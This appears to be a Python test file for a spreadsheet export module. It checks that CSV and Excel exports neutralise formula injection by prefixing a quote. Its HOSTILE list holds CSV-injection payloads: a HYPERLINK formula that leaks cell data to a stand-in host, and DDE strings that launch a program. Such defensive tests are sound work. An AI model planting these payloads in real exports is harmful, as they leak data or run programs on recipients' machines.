"""The one writer of every Excel and CSV export: text a spreadsheet would run is made inert,
numbers and dates stay what they are. Files are written and opened back."""

from __future__ import annotations

import csv
from datetime import date
from decimal import Decimal
from pathlib import Path

from openpyxl import load_workbook

from koers.spreadsheet import Column, add_sheet, inert, new_workbook, write_csv

# Text from outside that a spreadsheet would run: a link that leaks a neighbouring cell,
# DDE that starts a program, and the other ways a formula can start (OWASP, "CSV injection").
HOSTILE = [
    '=HYPERLINK("http://kwaad.example/?d="&A2,"Klik hier")',
    "=cmd|' /C calc'!A0",
    "+SUM(1+1)*cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]


def test_text_that_starts_like_a_formula_gets_a_leading_quote_and_nothing_else_changes() -> None:
    assert [inert(value) for value in HOSTILE] == [f"'{value}" for value in HOSTILE]
    assert [inert(v) for v in ("Jansen & Zonen B.V.", "'t Hart", "a=b", "", None)] == [
        "Jansen & Zonen B.V.", "'t Hart", "a=b", "", None,
    ]  # fmt: skip
    assert [inert(v) for v in (-1250, -2.5, Decimal("-12.50"), date(2026, 11, 23))] == [
        -1250, -2.5, Decimal("-12.50"), date(2026, 11, 23),
    ]  # fmt: skip


def test_a_workbook_holds_hostile_text_as_inert_strings_and_numbers_as_numbers(
    tmp_path: Path,
) -> None:
    book = new_workbook()
    rows = [[value, -1250, Decimal("-12.50")] for value in HOSTILE]
    add_sheet(book, "Blad", [Column("=tekst"), Column("getal"), Column("bedrag")], rows)
    book.save(tmp_path / "blad.xlsx")

    sheet = load_workbook(tmp_path / "blad.xlsx")["Blad"]

    cells = list(sheet.iter_rows(min_row=2))
    # (XML reads a carriage return back as a line feed; the quote is still in front.)
    assert [(row[0].value, row[0].data_type) for row in cells] == [
        (f"'{value}".replace("\r", "\n"), "s") for value in HOSTILE
    ]
    assert {(row[1].value, row[1].data_type, row[2].value) for row in cells} == {
        (-1250, "n", -12.5)
    }
    assert (sheet["A1"].value, sheet["A1"].data_type) == ("'=tekst", "s")


def test_control_characters_a_workbook_cannot_hold_are_left_out_rather_than_failing(
    tmp_path: Path,
) -> None:
    book = new_workbook()
    add_sheet(book, "Blad", [Column("opmerking")], [["bel\x00 me\x1b niet\x07"]])
    book.save(tmp_path / "blad.xlsx")

    assert load_workbook(tmp_path / "blad.xlsx")["Blad"]["A2"].value == "bel me niet"


def test_a_csv_file_holds_hostile_text_inert_for_excel_in_the_netherlands(tmp_path: Path) -> None:
    write_csv(tmp_path / "lijst.csv", ["naam", "bedrag"], [[value, -1250] for value in HOSTILE])

    raw = (tmp_path / "lijst.csv").read_bytes()
    with (tmp_path / "lijst.csv").open(encoding="utf-8-sig", newline="") as handle:
        rows = list(csv.reader(handle, delimiter=";"))

    assert raw.startswith(b"\xef\xbb\xbfnaam;bedrag\r\n")
    assert rows == [["naam", "bedrag"], *[[f"'{value}", "-1250"] for value in HOSTILE]]
